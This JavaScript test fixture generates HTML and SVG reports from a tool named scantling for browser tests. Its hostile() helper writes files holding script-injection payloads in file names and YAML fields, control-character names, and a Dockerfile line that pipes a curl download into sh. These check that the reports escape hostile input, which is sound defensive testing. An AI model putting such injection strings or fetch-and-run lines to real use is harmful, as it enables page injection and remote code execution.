// What the tests of this folder open: pages and drawings that the program
// writes, once a run, into a folder that is removed afterwards.
import { execFileSync } from "node:child_process";
import { mkdtempSync, mkdirSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { pathToFileURL } from "node:url";

const root = resolve(import.meta.dirname, "../..");
const program = process.env.SCANTLING || join(root, "dist/scantling");

export const dir = mkdtempSync(join(tmpdir(), "scantling-browser-"));
process.on("exit", () => rmSync(dir, { recursive: true, force: true }));

// write keeps what the program prints. Codes 3 and 4 are results too.
function write(name, args, cwd = root) {
  let out;
  try {
    out = execFileSync(program, args, { cwd, maxBuffer: 64 << 20, stdio: ["ignore", "pipe", "ignore"] });
  } catch (err) {
    if (err.status !== 3 && err.status !== 4) throw err;
    out = err.stdout;
  }
  const file = join(dir, name);
  writeFileSync(file, out);
  return { name, file, url: pathToFileURL(file).href, size: statSync(file).size };
}

// hostile lays out an estate whose names try to break out of the page.
function hostile() {
  const folder = join(dir, "hostile");
  mkdirSync(folder);
  writeFileSync(join(folder, "<script>window.broken=1<img src=x onerror=window.broken=1>.Dockerfile"), "FROM alpine:3.22\nRUN curl http://example.com/x | sh\nLABEL a='\"><script>window.broken=1</script>'\n");
  writeFileSync(join(folder, "\u202e\u001b[31m\"onload='x'.yaml"), "apiVersion: v1\nkind: Pod\nmetadata: {name: '<svg onload=x>', namespace: '</title><script>'}\nspec: [\n");
  writeFileSync(join(folder, "pod.yaml"), "apiVersion: v1\nkind: Pod\nmetadata: {name: web, namespace: x}\nspec: {containers: [{name: '<script>', image: '\"><script>window.broken=1</script>', securityContext: {privileged: true}}]}\n");
  return folder;
}

// WORKLOADS makes the large estate smaller while one works on the page.
export const workloads = process.env.WORKLOADS || "1000";

function large() {
  const folder = join(dir, "large");
  execFileSync(process.env.GO || "go", ["run", "./internal/gen/estate", folder, workloads], { cwd: root });
  return folder;
}

const shop = ["examples/shop", "--as-of", "2026-08-26"];
const big = large();

export const pages = {
  shop: write("shop.html", ["assess", ...shop, "--format", "html"]),
  plan: write("plan.html", ["plan", ...shop, "--format", "html"]),
  hostile: write("hostile.html", ["assess", hostile(), "--format", "html"]),
  large: write("large.html", ["assess", big, "--as-of", "2026-08-26", "--format", "html"]),
};

export const drawings = {
  staircase: write("staircase.svg", ["plan", ...shop, "--format", "svg"]),
  paths: write("paths.svg", ["cluster", "paths", "examples/shop/k8s", "--format", "svg"]),
  many: write("many.svg", ["cluster", "paths", join(big, "k8s"), "--most", "40", "--format", "svg"]),
};
